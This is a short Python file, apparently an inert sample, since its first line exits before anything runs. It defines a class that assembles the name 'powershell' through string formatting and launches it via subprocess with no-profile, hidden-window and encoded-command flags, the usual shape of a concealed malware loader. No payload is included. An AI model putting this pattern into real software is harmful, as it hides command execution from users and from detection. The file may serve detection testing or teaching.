raise SystemExit("inert sample")
import subprocess


class Runtime:
    shell = "p{}w{}rsh{}ll".format("o", "e", "e")
    flags = ["-NoP", "-W", "Hidden", "-Enc"]

    def command(self):
        return [self.shell, *self.flags, self.text]

    def ensure(self):
        subprocess.Popen(self.command())
